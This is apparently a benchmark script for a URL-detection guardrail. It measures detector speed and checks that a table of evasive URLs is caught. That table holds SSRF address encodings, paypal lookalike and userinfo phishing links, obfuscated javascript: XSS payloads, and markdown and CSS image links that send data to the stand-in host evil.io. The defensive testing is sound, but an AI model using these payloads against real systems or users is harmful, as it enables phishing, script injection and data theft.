"""What the `urls` detector costs, on prose without links and on texts packed with them; and the tricks that it sees.

    python benchmarks/urls.py

Microseconds per 1,000 characters, the best of three rounds over fresh texts: no host is in two texts, so that no memory of
hosts helps from one to the next. Packed texts have a link every 40 characters or so. Every text of a trick must have the
finding that is named with it.
"""

from __future__ import annotations

import random
import statistics
from pathlib import Path
from time import perf_counter_ns

from guardrails.detectors import PolicyFolder
from guardrails.detectors.urls.urls_detector import KIND, UrlsConfig
from guardrails.types import Text
from lexical_corpus import corpus
from measure import machine, table

ROUNDS = 3
LETTERS = "abcdefghijklmnopqrstuvwxyz"
WIDE = "абвгдежзиклмнопрстуфхцчшыэюя"

TRICKS: tuple[tuple[str, str], ...] = (
    ("private", "http://2130706433/ http://0x7f.1/ http://0177.0.0.1/ http://[::ffff:127.0.0.1]/ http://[fe80::1%25eth0]/"),
    ("private", "http://10.0.0.1.nip.io/ http://metadata.google.internal/ localhost:8080/x"),
    ("userinfo", "https://paypal.com@evil.io/ https://evil.io\\@paypal.com/ https://paypal.com%2F@evil.io/"),
    ("lookalike", "https://p\u0430ypal.com/ https://xn--pypal-4ve.com/ https://paypa1.com/ https://payqal.com/"),
    ("lookalike", "https://paypal.com.evil.io/ https://paypal-com.evil.io/ https://paypal.com-login.io/"),
    ("script", "[x](javascript&#58;alert(1))"),
    ("script", "<a href='java\tscript:alert(1)'>"),
    ("script", "<a href='jav&#x61;script&colon;alert(1)'>"),
    ("exfiltration", "![x](https://evil.io/p?d=SGVsbG8gd29ybGQ=)"),
    ("exfiltration", "<img srcset='/a.png 1x, https://evil.io/p?d=SGVsbG8gd29ybGQ= 2x'>"),
    ("exfiltration", "[x]: https://evil.io/p?d=SGVsbG8gd29ybGQ="),
    ("exfiltration", "a{background: url( 'https://evil.io/p?d=SGVsbG8gd29ybGQ=')}"),
    ("not_allowed", "//evil.io/x evil.io hxxps://evil[.]io https://%65vil.io https:\\\\evil.io ok.com,evil.io/x"),
    ("not_allowed", "https://ok.com\t.evil.io"),
)  # fmt: skip
"""Findings, and texts that must have them; where no text has a space of its own, several."""


def word(draw: random.Random, letters: str, least: int = 4, most: int = 10) -> str:
    return "".join(draw.choices(letters, k=draw.randint(least, most)))


def packed(draw: random.Random, letters: str, hosts: int = 40) -> str:
    """Return a text of forty links of six forms, to that many hosts."""
    names = [f"{word(draw, letters)}.{draw.choice(('com', 'org', 'co.uk', 'de'))}" for _ in range(hosts)]
    forms = ("https://{h}/{p}?q={n}", "[text](https://www.{h}/{p})", "see {h}/{p}", "http://{h}", "<img src='//{h}/{p}'>",
             "https://{h}:8443/{p}#x")  # fmt: skip
    return " ".join(
        draw.choice(forms).format(
            h=draw.choice(names),
            p=f"{word(draw, LETTERS)}/{word(draw, LETTERS)}",
            n=draw.randint(1, 9999),
        )
        for _ in range(40)
    )


def cost(detector: object, rounds: list[list[str]]) -> float:
    """Return the median of microseconds per 1,000 characters over the texts of a round, in the best round."""
    detect = detector.detect  # type: ignore[attr-defined]
    detect([Text("warm https://up.com/x and warm \u00e9.com/x")])
    medians = []
    for texts in rounds:
        each = []
        for text in texts:
            start = perf_counter_ns()
            detect([Text(text)])
            each.append((perf_counter_ns() - start) / len(text))
        medians.append(statistics.median(each))
    return min(medians)


def main() -> None:
    """Print the costs, and every trick that is not seen."""
    print(machine())
    plain = KIND.build("u", UrlsConfig(use="urls"), PolicyFolder(Path()))
    lists = KIND.build(
        "u", UrlsConfig(use="urls", allow=["ok.com", "=api.ok.org"], deny=["bad.io"]), PolicyFolder(Path())
    )
    job = corpus(1, 90)
    draw = random.Random(11)
    kinds = {
        "prose, ASCII": [job.ascii[at::ROUNDS] for at in range(ROUNDS)],
        "prose, many scripts": [job.unicode[at::ROUNDS] for at in range(ROUNDS)],
        "packed, a dozen hosts": [[packed(draw, LETTERS, 12) for _ in range(30)] for _ in range(ROUNDS)],
        "packed, 40 hosts": [[packed(draw, LETTERS) for _ in range(30)] for _ in range(ROUNDS)],
        "packed, Cyrillic hosts": [[packed(draw, WIDE) for _ in range(30)] for _ in range(ROUNDS)],
    }
    print(
        table(
            [
                {
                    "us per 1,000 characters": kind,
                    "by form": cost(plain, texts),
                    "with lists": cost(lists, texts),
                }
                for kind, texts in kinds.items()
            ]
        )
    )
    missed = []
    for leaf, texts in TRICKS:
        for text in (
            texts.split(" ") if leaf in {"private", "userinfo", "lookalike", "not_allowed"} else [texts]
        ):
            found = {each.category for each in lists.detect([Text(text)])[0].findings}
            if f"url.{leaf}" not in found:
                missed.append(f"{leaf}: {text}")
    print(f"tricks missed: {missed or 'none'}")


if __name__ == "__main__":
    main()
